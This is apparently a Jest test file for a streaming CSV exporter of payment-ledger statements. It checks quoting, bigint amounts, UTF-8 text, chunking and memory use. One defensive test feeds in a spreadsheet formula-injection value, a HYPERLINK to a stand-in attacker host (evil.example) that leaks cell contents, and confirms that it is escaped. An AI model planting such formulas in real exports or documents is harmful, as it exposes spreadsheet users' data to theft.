import { statementCsv, STATEMENT_CSV_CHUNK_BYTES } from '../csv';
import { type StatementRow } from '../types';
import { liveHeapBytes } from './heap';
import { asAsync, syntheticRows } from './statement-fixture';

const HEADER = 'occurred_at,type,id,reference,description,gross,fee,net,balance_after,currency\r\n';

async function collect(chunks: AsyncIterable<string>): Promise<string[]> {
  const all: string[] = [];
  for await (const chunk of chunks) all.push(chunk);
  return all;
}

function row(overrides: Partial<StatementRow>): StatementRow {
  return {
    occurredAt: new Date('2026-01-05T06:03:12.345Z'),
    type: 'PAYMENT',
    id: 'led_1',
    reference: null,
    description: '',
    gross: 0n,
    fee: 0n,
    net: 0n,
    balanceAfter: 0n,
    currency: 'HKD',
    ...overrides,
  };
}

describe('statementCsv', () => {
  it('writes the contract header, CRLF lines, quoted fields, signed two-place amounts and UTF-8 Chinese text', async () => {
    const rows = [
      row({ reference: 'INV-001', description: 'Lunch, two sets', gross: 12050n, fee: -121n, net: 11929n, balanceAfter: 111929n }),
      row({
        occurredAt: new Date('2026-01-05T16:00:00Z'),
        type: 'REFUND',
        id: 'led_2',
        description: 'Refund of "set A"\r\nsecond line',
        gross: -1250n,
        net: -1250n,
        balanceAfter: 110679n,
      }),
      row({ type: 'PAYOUT', id: 'led_3', reference: 'PO-9', description: 'Payout to 陳大文', gross: -100000n, net: -100000n, balanceAfter: 10679n }),
      row({ type: 'ADJUSTMENT', id: 'led_4', description: '九龍茶餐廳 correction\n', gross: -5n, net: -5n, balanceAfter: 10674n }),
    ];
    const csv = (await collect(statementCsv(asAsync(rows)))).join('');
    expect(csv).toBe(
      HEADER +
        '2026-01-05T06:03:12.345Z,PAYMENT,led_1,INV-001,"Lunch, two sets",120.50,-1.21,119.29,1119.29,HKD\r\n' +
        '2026-01-05T16:00:00.000Z,REFUND,led_2,,"Refund of ""set A""\r\nsecond line",-12.50,0.00,-12.50,1106.79,HKD\r\n' +
        '2026-01-05T06:03:12.345Z,PAYOUT,led_3,PO-9,Payout to 陳大文,-1000.00,0.00,-1000.00,106.79,HKD\r\n' +
        '2026-01-05T06:03:12.345Z,ADJUSTMENT,led_4,,"九龍茶餐廳 correction\n",-0.05,0.00,-0.05,106.74,HKD\r\n',
    );
    // UTF-8, no byte-order mark: 陳 is E9 99 B3.
    const bytes = Buffer.from(csv, 'utf8');
    expect(bytes.subarray(0, 11).toString('latin1')).toBe('occurred_at');
    expect(bytes.includes(Buffer.from([0xe9, 0x99, 0xb3]))).toBe(true);
  });

  it('neutralises text that a spreadsheet would run as a formula, and leaves numbers alone', async () => {
    const rows = [
      row({ reference: '=HYPERLINK("https://evil.example/?"&A1,"refund")', description: '+852 1234 5678' }),
      row({ reference: '@SUM(A1:A9)', description: '-2+3' }),
      row({ reference: '\t=1+1', description: '\r=1+1' }),
      row({ reference: 'a=1', description: '陳大文 @ 九龍茶餐廳', gross: -100n, net: -100n, balanceAfter: -100n }),
    ];
    const lines = (await collect(statementCsv(rows))).join('').split('\r\n');
    const textFields = (line: string) => line.slice('2026-01-05T06:03:12.345Z,PAYMENT,led_1,'.length);
    expect(textFields(lines[1])).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""refund"")",'+852 1234 5678,0.00,0.00,0.00,0.00,HKD`);
    expect(textFields(lines[2])).toBe(`'@SUM(A1:A9),'-2+3,0.00,0.00,0.00,0.00,HKD`);
    // A lone CR needs quotes as well as the apostrophe; a tab needs only the apostrophe.
    expect(textFields(lines[3])).toBe(`'\t=1+1,"'\r=1+1",0.00,0.00,0.00,0.00,HKD`);
    expect(textFields(lines[4])).toBe('a=1,陳大文 @ 九龍茶餐廳,-1.00,0.00,-1.00,-1.00,HKD');
  });

  it('formats amounts past 2^53 exactly (bigint, never a float)', async () => {
    const huge = 9_007_199_254_740_993n;
    const csv = (await collect(statementCsv([row({ gross: huge, fee: -huge, net: 0n, balanceAfter: -1n })]))).join('');
    expect(csv.split('\r\n')[1]).toBe('2026-01-05T06:03:12.345Z,PAYMENT,led_1,,,90071992547409.93,-90071992547409.93,0.00,-0.01,HKD');
  });

  it('gives just the header row for no rows', async () => {
    expect(await collect(statementCsv(asAsync([])))).toEqual([HEADER]);
  });

  it('cuts chunks at line ends, within the chunk size, and they join to the whole file', async () => {
    const rows = [...syntheticRows(500)];
    const whole = (await collect(statementCsv(rows, { chunkBytes: 1_000_000 }))).join('');
    const chunks = await collect(statementCsv(rows, { chunkBytes: 1000 }));
    expect(chunks.join('')).toBe(whole);
    expect(chunks.length).toBeGreaterThan(50);
    for (const chunk of chunks) {
      expect(Buffer.byteLength(chunk)).toBeLessThanOrEqual(1000);
      expect(chunk.endsWith('\r\n')).toBe(true);
    }
  });

  it('streams 200,000 rows in bounded chunks without holding them', async () => {
    const total = 200_000;
    let heapEarly = 0;
    let heapLate = 0;
    const rows = asAsync(
      syntheticRows(total, (i) => {
        if (i === 20_000) heapEarly = liveHeapBytes();
        if (i === total - 1) heapLate = liveHeapBytes();
      }),
    );
    let chunks = 0;
    let largest = 0;
    let lines = 0;
    let bytes = 0;
    for await (const chunk of statementCsv(rows)) {
      const size = Buffer.byteLength(chunk);
      chunks += 1;
      bytes += size;
      largest = Math.max(largest, size);
      for (let at = chunk.indexOf('\r\n'); at !== -1; at = chunk.indexOf('\r\n', at + 2)) lines += 1;
    }
    expect(lines).toBe(total + 1);
    expect(largest).toBeLessThanOrEqual(STATEMENT_CSV_CHUNK_BYTES);
    expect(chunks).toBeGreaterThan(bytes / STATEMENT_CSV_CHUNK_BYTES);
    // The file is ~20 MB (40 MB as JS strings); what stays reachable must not grow with it.
    expect(bytes).toBeGreaterThan(15_000_000);
    expect(heapLate - heapEarly).toBeLessThan(8 * 1024 * 1024);
  });
});
